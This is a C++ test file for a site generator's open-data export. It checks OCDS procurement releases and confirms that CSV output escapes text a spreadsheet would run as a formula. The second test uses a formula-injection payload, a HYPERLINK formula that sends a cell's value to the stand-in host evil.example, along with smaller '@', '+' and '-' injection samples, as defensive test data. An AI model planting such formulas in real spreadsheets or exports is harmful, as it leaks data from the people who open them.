#include <doctest/doctest.h>

#include <nlohmann/json.hpp>

#include "opendata/opendata.hpp"
#include "support/temp_site.hpp"

using namespace plainsight;

TEST_SUITE("opendata") {
  TEST_CASE("the pipeline's OCDS releases: planned tenders, with values and dates only where known") {
    testing::TempSite site({{"site.json", testing::minimal_site_json(R"(, "ocid_prefix": "ocds-abc123")")},
                            {"content/_index.md", "---\ntitle: Home\n---\n"},
                            {"content/procurement/index.md", "---\ntitle: Contracts\ntype: pipeline\ndate: 2020-03-16\n---\n"},
                            {"content/procurement/pipeline.csv",
                             "title,value,start,department\nSupply of Gas,\"£12,250,000.00\",01/02/2020,Corporate\nCCTV,TBA,TBC,Highways\n"}});
    const auto output = site.generate();
    REQUIRE_MESSAGE(output, testing::all_messages(site.diagnostics));
    const auto package = nlohmann::json::parse(output->files.at("data/procurement/pipeline-ocds.json"));
    CHECK(package["version"] == "1.1");
    CHECK(package["publishedDate"] == "2020-03-16T00:00:00Z");
    CHECK(package["publisher"]["name"] == "Test Council");
    REQUIRE(package["releases"].size() == 2);
    const auto& gas = package["releases"][0];
    CHECK(gas["ocid"] == "ocds-abc123-corporate-supply-of-gas");
    CHECK(gas["tag"] == nlohmann::json::array({"planning"}));
    CHECK(gas["initiationType"] == "tender");
    CHECK(gas["buyer"]["name"] == "Test Council");
    CHECK(gas["tender"]["status"] == "planned");
    CHECK(gas["tender"]["value"]["amount"] == 12250000);
    CHECK(gas["tender"]["value"]["currency"] == "GBP");
    CHECK(gas["tender"]["tenderPeriod"]["startDate"] == "2020-02-01T00:00:00Z");
    CHECK(gas["planning"]["budget"]["amount"]["amount"] == 12250000);
    const auto& cctv = package["releases"][1];
    CHECK_FALSE(cctv["tender"].contains("value"));
    CHECK_FALSE(cctv["tender"].contains("tenderPeriod"));
    CHECK_FALSE(cctv.contains("planning"));
    const auto csv = output->files.at("data/procurement/pipeline.csv");
    CHECK(csv.find("highways-cctv,CCTV,Highways,,,,,TBA,TBA,,,TBC,") != std::string::npos);
  }

  TEST_CASE("text a spreadsheet would run as a formula gets a leading ' in every CSV; numbers and the JSON stay as they are") {
    const std::string hyperlink = R"x(=HYPERLINK("http://evil.example/?x="&A1,"Click"))x";
    const char* plan = R"x({"title": "P", "periods": [{"id": "q1", "label": "Q1", "end": "2022-03-31"}],
      "priorities": [{"id": "p", "title": "+Priority"}],
      "measures": [{"id": "debt", "priority": "p", "title": "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")", "unit": "number",
                    "direction": "higher", "target": -3, "values": [{"period": "q1", "value": -5}], "responsible": "@SUM(1+1)"}],
      "deliverables": [{"id": "d", "priority": "p", "title": "-2+3", "lead": "\tTab", "department": "\rCR", "stage": "= 1"}]})x";
    testing::TempSite site({{"content/_index.md", "---\ntitle: Home\n---\n"},
                            {"content/plans/p/index.md", "---\ntitle: P\ntype: plan\n---\n"},
                            {"content/plans/p/plan.json", plan},
                            {"content/procurement/index.md", "---\ntitle: Contracts\ntype: pipeline\ndate: 2020-03-16\n---\n"},
                            {"content/procurement/pipeline.csv", "title,value,start,department,notes\n\"" +
                                                                     std::string(R"x(=HYPERLINK(""http://evil.example/?x=""&A1,""Click""))x") +
                                                                     "\",5,01/02/2020,@Corporate,-1 on last year\n"}});
    const auto output = site.generate();
    REQUIRE_MESSAGE(output, testing::all_messages(site.diagnostics));
    const auto& files = output->files;
    const auto contains = [](const std::string& text, const std::string& part) { return text.find(part) != std::string::npos; };

    const auto& pipeline = files.at("data/procurement/pipeline.csv");
    CHECK_MESSAGE(contains(pipeline, R"x(,"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")",'@Corporate,)x"), pipeline);
    CHECK(contains(pipeline, ",'-1 on last year,"));
    CHECK(nlohmann::json::parse(files.at("data/procurement/pipeline.json"))[0]["title"] == hyperlink);

    const auto& measures = files.at("data/plans/p/measures.csv");
    CHECK_MESSAGE(contains(measures, R"x(debt,p,"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")",number,higher,-3,,-5,q1,)x"), measures);
    CHECK(contains(measures, ",'@SUM(1+1),"));
    CHECK(contains(files.at("data/plans/p/measure-values.csv"), "debt,q1,-5,"));
    const auto& deliverables = files.at("data/plans/p/deliverables.csv");
    CHECK_MESSAGE(contains(deliverables, "d,p,'+Priority,'-2+3,'\tTab,\"'\rCR\",,,,,'= 1,"), deliverables);
    const auto measures_json = nlohmann::json::parse(files.at("data/plans/p/measures.json"));
    CHECK(measures_json[0]["title"] == hyperlink);
    CHECK(measures_json[0]["latest_value"] == -5);
    CHECK(nlohmann::json::parse(files.at("data/plans/p/deliverables.json"))[0]["title"] == "-2+3");
  }

  TEST_CASE("spreadsheet_safe_text prefixes only what a spreadsheet would run") {
    for (const char* formula : {"=1+1", "+1", "-1", "@A1", "\t=1", "\r=1"}) CHECK(spreadsheet_safe_text(formula) == std::string("'") + formula);
    for (const char* text : {"", "Plain", "1-2", " =1", "'quoted", "£-5"}) CHECK(spreadsheet_safe_text(text) == text);
  }
}
